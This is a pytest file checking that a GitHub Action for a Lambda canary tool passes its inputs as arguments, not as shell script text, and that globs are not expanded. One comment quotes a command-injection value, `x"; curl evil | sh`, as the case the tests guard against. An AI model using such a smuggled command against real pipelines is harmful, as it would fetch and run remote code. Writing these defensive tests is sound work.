"""action.yml, the GitHub Action: its inputs reach `canary start` as arguments, never as script text."""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
ACTION = yaml.safe_load((ROOT / "action.yml").read_text())
START = next(step for step in ACTION["runs"]["steps"] if step.get("id") == "start")


def test_the_action_takes_the_stack_functions_weight_wait_and_region():
    # then the inputs the README shows exist, and only stack and functions are required
    inputs = ACTION["inputs"]
    assert {"stack", "functions", "weight", "wait", "region"} <= set(inputs)
    assert sorted(name for name, spec in inputs.items() if spec.get("required")) == ["functions", "stack"]


def test_no_script_of_the_action_pastes_an_expression_into_its_text():
    # given every step that runs a script
    scripts = [step["run"] for step in ACTION["runs"]["steps"] if "run" in step]

    # then none holds ${{ ... }}: a function name like `x"; curl evil | sh` stays an argument
    assert scripts and all("${{" not in script for script in scripts)


def run_start(tmp_path: Path, **inputs: str) -> tuple[list[str], dict[str, str], int]:
    """The start step's script under bash, with a stand-in `canary` that records its arguments and exits 3."""
    fake = tmp_path / "bin" / "canary"
    fake.parent.mkdir()
    fake.write_text(
        "#!/usr/bin/env python3\nimport json, os, sys\n"
        "open(os.environ['RECORD'], 'w').write(json.dumps(sys.argv[1:]))\n"
        "print('arn:aws:states:us-east-1:123456789012:execution:canary:my-app-760')\nsys.exit(3)\n"
    )
    fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
    output = tmp_path / "github-output"
    env = {
        "PATH": f"{fake.parent}:{os.environ['PATH']}",
        "RUNNER_TEMP": str(tmp_path),
        "GITHUB_OUTPUT": str(output),
        "RECORD": str(tmp_path / "argv.json"),
    }
    defaults = {name: str(spec.get("default", "")) for name, spec in ACTION["inputs"].items()}
    values = {**defaults, **inputs}
    for variable, expression in START["env"].items():
        name = re.fullmatch(r"\$\{\{ inputs\.([a-z-]+) \}\}", expression).group(1)  # type: ignore[union-attr]
        env[variable] = values[name]
    bash = shutil.which("bash") or "/bin/bash"
    completed = subprocess.run([bash, "-e", "-c", START["run"]], env=env, cwd=tmp_path, timeout=30)
    outputs = dict(line.split("=", 1) for line in output.read_text().splitlines())
    return json.loads((tmp_path / "argv.json").read_text()), outputs, completed.returncode


def test_the_start_step_passes_each_input_as_an_argument_and_keeps_the_exit_code(tmp_path):
    # given a file the function list's glob would match
    (tmp_path / "my-app-evil").touch()

    # when the step runs with functions separated by commas and new lines, and a function list that tries a glob
    argv, outputs, code = run_start(
        tmp_path, stack="lambda-canary-prod", functions="my-app-orders,my-app-api\nmy-app-*", weight="0.1",
        region="eu-west-1",
    )  # fmt: skip

    # then canary start gets them as separate arguments (the glob is not expanded), and the step fails with
    # canary's exit code, the execution and the code as outputs
    assert argv == [
        "start", "--stack", "lambda-canary-prod", "--functions", "my-app-orders", "my-app-api", "my-app-*",
        "--weight", "0.1", "--region", "eu-west-1", "--wait", "--wait-timeout", "21600",
    ]  # fmt: skip
    assert code == 3
    assert outputs == {
        "execution-arn": "arn:aws:states:us-east-1:123456789012:execution:canary:my-app-760",
        "exit-code": "3",
    }


@pytest.mark.parametrize("wait", ["false", ""])
def test_without_wait_the_step_only_starts(tmp_path, wait):
    # when wait is not "true"
    argv, _, _ = run_start(tmp_path, stack="s", functions="f", wait=wait)

    # then canary start is not asked to follow
    assert argv == ["start", "--stack", "s", "--functions", "f"]


def test_the_readmes_ci_snippets_are_valid_yaml_and_name_the_actions_own_inputs():
    # given every YAML block of the README
    readme = (ROOT / "README.md").read_text()
    blocks = re.findall(r"```yaml\n(.*?)```", readme, re.DOTALL)

    # then each parses, and each use of the action passes only inputs action.yml declares
    documents = [yaml.safe_load(block) for block in blocks]
    assert len(documents) >= 4  # the quick start, GitHub Actions, CircleCI, GitLab CI
    uses = re.findall(r"uses: <owner>/lambda-canary@v1\n\s+with:\s*(\{[^}]*\}|(?:\n\s+[\w-]+: .*)+)", readme)
    assert uses
    for given in uses:
        names = set(re.findall(r"([\w-]+):", given))
        assert names <= set(ACTION["inputs"]), names - set(ACTION["inputs"])

    # and the GitHub job that assumes a role with OIDC may ask for the token
    job = next(d for d in documents if isinstance(d, dict) and "jobs" in d and "deploy" in d["jobs"])
    assert job["jobs"]["deploy"]["permissions"]["id-token"] == "write"
